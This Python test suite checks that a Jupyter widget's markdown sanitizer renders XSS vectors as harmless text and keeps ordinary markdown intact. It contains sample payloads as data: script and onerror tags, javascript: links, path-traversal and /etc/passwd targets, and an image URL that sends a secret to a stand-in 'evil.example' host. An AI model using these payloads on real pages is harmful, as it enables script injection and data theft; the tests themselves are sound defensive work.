"""Issue 26 item 3: text others wrote is data on the page (jupyter_memory.widgets.safe).

Each classic XSS vector, and any mix of their fragments, goes through every function the
display paths use; what comes out is checked the way a browser and two trusting markdown
parsers would read it (tests/hardening/page_checks). Ordinary markdown keeps its form.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jupyter_memory.widgets.safe import (
    link_target,
    markdown_html,
    md_code,
    md_link,
    md_text,
    safe_markdown,
)

from .page_checks import PAYLOADS, live_markup, markdown_problems, markdown_renderings

#: Payloads that are harmless text even when nothing is done to them (entities, code,
#: a title that stays a title, maths): the checks rightly find nothing in them raw.
INERT = {
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '[click](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    "\\[click](javascript:alert(1))",
    "\\![chart](https://evil.example/steal?q=SECRET)",  # a "!", then a link
    "!<https://evil.example/?q=SECRET>",
    "``a`</code><img src=x onerror=alert(1)>``",
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "$\\href{javascript:alert(1)}{x}$",
}


def all_problems(text: str) -> list[str]:
    """Live markup in every form a display path gives ``text``."""
    return (
        [f"safe_markdown: {p}" for p in markdown_problems(safe_markdown(text))]
        + [f"markdown_html: {p}" for p in live_markup(markdown_html(text))]
        + [f"md_text: {p}" for p in markdown_problems(md_text(text))]
        + [f"md_code: {p}" for p in markdown_problems(md_code(text))]
        + [f"md_link: {p}" for p in markdown_problems(md_link(text, text))]
        + [f"md_link target: {p}" for p in markdown_problems(md_link("x", text))]
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_data_in_every_form(payload: str) -> None:
    assert all_problems(payload) == []


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p not in INERT])
def test_the_checks_see_each_payload_left_as_it_is(payload: str) -> None:
    assert markdown_problems(payload), "the checks would not notice this payload"


FRAGMENTS = [
    *PAYLOADS, "\n", "\n\n", " ", "    ", "\t", "`", "``", "```", "~~~", "*", "**", "_", "~~",
    "[", "]", "(", ")", "](", "]: ", "<", ">", "</", "/>", "&", "&#", "&#x", ";", "!", "\\",
    "|", "#", "- ", "1. ", "> ", "javascript:", "JaVa", "script:", "data:", "vbscript:",
    "https://evil.example/", "//", "../", "<img", "<a href=", " src=x", " onerror=",
    "alert(1)", '"', "'", "=", "$", "<!--", "-->", "<![CDATA[", "]]>", "@", "mailto:",
]


@settings(deadline=None)  # the first example imports two markdown parsers
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join))
def test_any_mix_of_fragments_stays_data(text: str) -> None:
    assert all_problems(text) == []


# --------------------------------------------------------------------------- links


@pytest.mark.parametrize("url", [
    "https://example.com/a?b=1&c=2#d", "HTTP://EXAMPLE.COM", "mailto:ana@example.com",
    "data/sales.csv", "sub dir/My Notebook.ipynb", "./notes.md", "#results", "?tab=2",
])
def test_links_that_stay(url: str) -> None:
    assert link_target(url) == url


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", " JavaScript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "\x00javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:image/png;base64,AAAA",
    "file:///etc/passwd", "ftp://example.com/x", "/etc/passwd", "//evil.example/x",
    "\\\\evil.example\\x", "/\\evil.example", "../secret.md", "a/../../secret.md", "a/b/../c.md",
    "%2e%2e/secret.md", "%252e%252e/secret.md", "a:b", "%6Aavascript:alert(1)", "",
])
def test_links_that_go(url: str) -> None:
    assert link_target(url) is None


class _Shape(HTMLParser):
    """The elements and the text of some HTML, for comparing two renderings."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        kept = [f"{k}={v}" for k, v in attrs if k in ("href", "class")]
        self.tags.append(" ".join([tag, *kept]))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def shape(html: str) -> tuple[list[str], str]:
    parser = _Shape()
    parser.feed(html)
    return parser.tags, " ".join("".join(parser.text).split())


ANSWER = """\
# Revenue by month

Revenue **grew** by *12%* in ~~May~~ June, for snake_case_names and 2 * 3 too; see
[the report](https://example.com/r?a=1&b=2) and [the data](data/sales.csv). AT&T &amp; co.

1. Load the data
2. Group by month
   - use `df.groupby("month")`
   - then `.sum()`

```python
monthly = df.groupby("month")["revenue"].sum()
print(monthly[monthly > 0], "<b>")
```

| month | revenue |
|:------|--------:|
| May   | 1,200   |
| June  | `1\\|344` |

> Note: revenue is stored in cents.
"""


def test_an_answer_keeps_its_markdown() -> None:
    """Rendered by a CommonMark parser, the rewritten answer has the same elements and
    text as the original: headings, emphasis, links, lists, code, tables, quotes."""
    original = markdown_renderings(ANSWER)["markdown-it"]
    rewritten = markdown_renderings(safe_markdown(ANSWER))["markdown-it"]
    assert shape(rewritten) == shape(original)
    tags = shape(markdown_html(ANSWER))[0]
    for tag in ("h1", "strong", "em", "del", "a href=https://example.com/r?a=1&b=2",
                "a href=data/sales.csv", "ol", "ul", "code", "pre",
                "code class=language-python", "table", "blockquote"):
        assert tag in tags, tag


def test_an_image_is_its_alt_text_and_its_url_as_text() -> None:
    text = "See ![the chart](https://evil.example/steal?q=SECRET) and ![x](data:image/png;base64,AAAA)."
    for html in (markdown_html(text), *markdown_renderings(safe_markdown(text)).values()):
        assert "<img" not in html
        words = shape(html)[1]
        assert "the chart (image not loaded: https://evil.example/steal?q=SECRET)" in words
        assert "x (image not loaded)" in words and "base64" not in words


def test_a_refused_link_keeps_its_text_and_says_so() -> None:
    text = "[open](javascript:alert(1)) [up](../../secret.md) [ok](https://example.com)"
    for html in (markdown_html(text), *markdown_renderings(safe_markdown(text)).values()):
        tags, words = shape(html)
        assert [t for t in tags if t.startswith("a ")] == ["a href=https://example.com"], tags
        assert "open (link removed) up (link removed) ok" in words


def test_escaped_html_reads_as_the_text_it_was() -> None:
    text = 'Use <br> or &lt;br&gt; in "HTML" & "$x$"'
    for html in (markdown_html(text), *markdown_renderings(safe_markdown(text)).values()):
        assert shape(html) == (["p"], 'Use <br> or <br> in "HTML" & "$x$"')
    assert shape(markdown_renderings(md_text(text))["markdown-it"])[1] == (
        'Use <br> or &lt;br&gt; in "HTML" & "$x$"')


def test_our_markdown_writes_only_our_tags() -> None:
    out = safe_markdown(ANSWER + "\n\n" + "\n\n".join(PAYLOADS))
    tags = set(re.findall(r"</?[a-z]+", out))
    assert tags <= {"<code", "</code", "<pre", "</pre"}, tags


def test_both_forms_read_one_tree_and_leave_it_as_it_was() -> None:
    """A turn's output renders its answer both ways from one parse: neither may change
    what the other sees, in either order."""
    text = ANSWER + "\n\n" + "\n\n".join(PAYLOADS)
    first = (markdown_html(text), safe_markdown(text))
    assert (safe_markdown(text), markdown_html(text)) == first[::-1]
    fresh = text + "\n"  # another string: parsed anew
    assert (markdown_html(fresh), safe_markdown(fresh)) == first


def test_every_form_of_a_hostile_turn_record_is_data() -> None:
    """A turn's output bundle and the turn view's static copy, every field hostile:
    the answer, tool calls, events, compactions (summary, files, hook output), the
    memories written and the recall decisions."""
    from jupyter_memory.widgets.compaction import compaction_bundle
    from jupyter_memory.widgets.html import turn_html
    from jupyter_memory.widgets.render import turn_bundle

    from .page_checks import bundle_problems

    hostile = "\n\n".join(PAYLOADS)
    compaction = {"trigger": hostile, "method": "model", "pre_tokens": 9000,
                  "post_tokens": 3000, "summary": hostile, "kept_messages": 2,
                  "files": [{"path": hostile, "tokens": 10}], "post_hook_output": [hostile],
                  "warnings": [hostile], "transcript_path": hostile}
    record = {
        "turn": 1, "model": hostile, "answer": hostile, "prompt": hostile,
        "tool_calls": [{"id": "t", "name": hostile, "input": {"q": hostile},
                        "result": hostile, "is_error": True}],
        "events": [{"kind": hostile, "text": hostile}],
        "compactions": [compaction],
        "memories_written": [{"file": hostile, "by": hostile}],
        "recall": {"mode": "prefetch", "decisions": [
            {"file": hostile, "decision": hostile, "reason": hostile, "path": hostile}]},
        "usage": {"input_tokens": 1, "output_tokens": 1},
        "context": {"window": 200000, "used": 10},
    }
    problems = bundle_problems(turn_bundle(record), "turn_bundle")
    problems += bundle_problems(compaction_bundle(compaction), "compaction_bundle")
    problems += [f"turn view copy: {p}" for p in live_markup(turn_html(record, "/m"))]
    assert problems == []


def test_maths_paths_and_words_keep_their_characters() -> None:
    """What JupyterLab typesets as maths, and words with underscores, come out as they
    went in: no backslash added before a letter, none before an underscore in a word."""
    text = r"Here $\frac{a}{b}$ and $x_1^2$ for snake_case_name in C:\Users\ana."
    assert safe_markdown(text) == text
    assert md_text("C:\\temp *x* $5") == "C:\\temp \\*x\\* \\$5"  # literal: nothing live
